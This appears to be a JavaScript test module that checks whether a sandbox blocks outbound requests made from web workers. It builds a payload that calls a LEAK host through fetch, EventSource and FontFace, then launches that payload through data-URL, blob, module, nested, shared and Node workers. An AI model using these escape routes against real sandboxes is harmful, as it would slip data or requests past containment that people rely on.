import { addressOf, attempts, event, scope } from './attempts.mjs';
const LEAKS = JSON.stringify(`${process.env.LEAK}/within`);
const FETCHES = `fetch(${LEAKS},{mode:"no-cors"}).then(()=>postMessage("leaked"));try{new EventSource(${LEAKS})}catch{};try{new FontFace("x","url("+${LEAKS}+")").load()}catch{}`;
const LEAK = process.env.LEAK;
export const handler = () => attempts({
  address: () => event(new scope.Worker(`${LEAK}/worker`), 'message'),
  module: () => event(new scope.Worker(`${LEAK}/worker`, { type: 'module' }), 'message'),
  data: () => event(new scope.Worker(`data:text/javascript,${encodeURIComponent(FETCHES)}`), 'message'),
  blob: () => event(new scope.Worker(addressOf(FETCHES)), 'message'),
  moduleBlob: () => event(new scope.Worker(addressOf(FETCHES), { type: 'module' }), 'message'),
  nested: () => event(new scope.Worker(addressOf(`const inner=new Worker(URL.createObjectURL(new Blob([${JSON.stringify(FETCHES)}])));inner.onmessage=e=>postMessage(e.data)`)), 'message'),
  imports: () => event(new scope.Worker(addressOf(`import("${LEAK}/import").then(()=>postMessage(1))`)), 'message'),
  shared: () => { const worker = new scope.SharedWorker(addressOf(FETCHES)); return event(worker.port, 'message'); },
  sharedAddress: () => { const worker = new scope.SharedWorker(`${LEAK}/shared`); return event(worker.port, 'message'); },
  threads: async () => new (await import('node:worker_threads')).Worker('fetch(1)', { eval: true }),
});
